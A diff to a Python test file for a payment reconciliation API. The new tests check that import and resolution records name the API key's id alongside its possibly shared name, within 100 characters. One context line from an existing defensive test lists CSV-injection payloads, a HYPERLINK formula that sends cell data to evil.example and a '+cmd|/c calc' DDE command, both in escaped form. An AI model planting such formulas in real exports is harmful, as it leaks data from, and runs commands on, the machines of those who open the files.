@@ -158,7 +158,8 @@ async def test_a_day_with_every_category_reconciles_and_clears_to_zero(api, port
                                ("unknown_khqr", "refund_due", {})]:
         r = await resolve(api, treasury, open_[reason]["id"], action, **kw)
         assert r.status == 200, (reason, await r.text())
-        assert (await r.json())["resolved_by"] == "Treasury desk"
+        # the key's name and id: names need not be unique
+        assert (await r.json())["resolved_by"] == f"Treasury desk (key {treasury['Authorization'].split('_')[1]})"
     assert await clearing(api.dsn) == 0
     async with connect(api.dsn) as conn:
         assert await ledger.balance(conn, "suspense:unmatched:KHR") == 0
@@ -772,3 +773,23 @@ async def test_the_csv_report_never_hands_a_spreadsheet_a_formula(api, portal, t
     assert [row[5] for row in rows if row[3] == "line"] == [
         '\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+cmd|/c calc!A1", "'-2+3", "TX-PLAIN"]
     assert "'@SUM(1+1)" in cells
+
+
+async def test_who_imported_and_who_resolved_names_the_key_not_only_its_name(api, portal, invoice_body):
+    """Found by an auditor's walk-through: two keys could share the name "Treasury desk", and the records named
+    only that. They name the key's id too, within the 100 characters they hold, however long the name."""
+    long_name = "Treasury desk of the General Department of Budget, second floor, reconciliation team, Phnom Penh"
+    keys = [await api.key(None, scopes=["treasury"], name=name) for name in ("Treasury desk", long_name)]
+    await paid(api, portal, invoice_body, "TX-1")
+    for key, txid in zip(keys, ("TX-1", "TX-9")):
+        r = await upload(api, {"Authorization": f"Bearer {key}"},
+                         write_settlement_csv([line(txid, 50000 if txid == "TX-1" else 7000)]))
+        assert r.status == 201, await r.text()
+        kid = key.split("_")[1]
+        by = (await r.json())["imported_by"]
+        assert by.endswith(f" (key {kid})") and len(by) <= 100 and by.startswith("Treasury desk")
+    [exc] = (await (await api.client.get("/v1/reconciliation/exceptions", params={"state": "open"},
+                                         headers={"Authorization": f"Bearer {keys[1]}"})).json())["data"]
+    r = await resolve(api, {"Authorization": f"Bearer {keys[1]}"}, exc["id"], "refund_due")
+    assert r.status == 200, await r.text()
+    assert (await r.json())["resolved_by"] == long_name[:100 - 19] + f" (key {keys[1].split('_')[1]})"
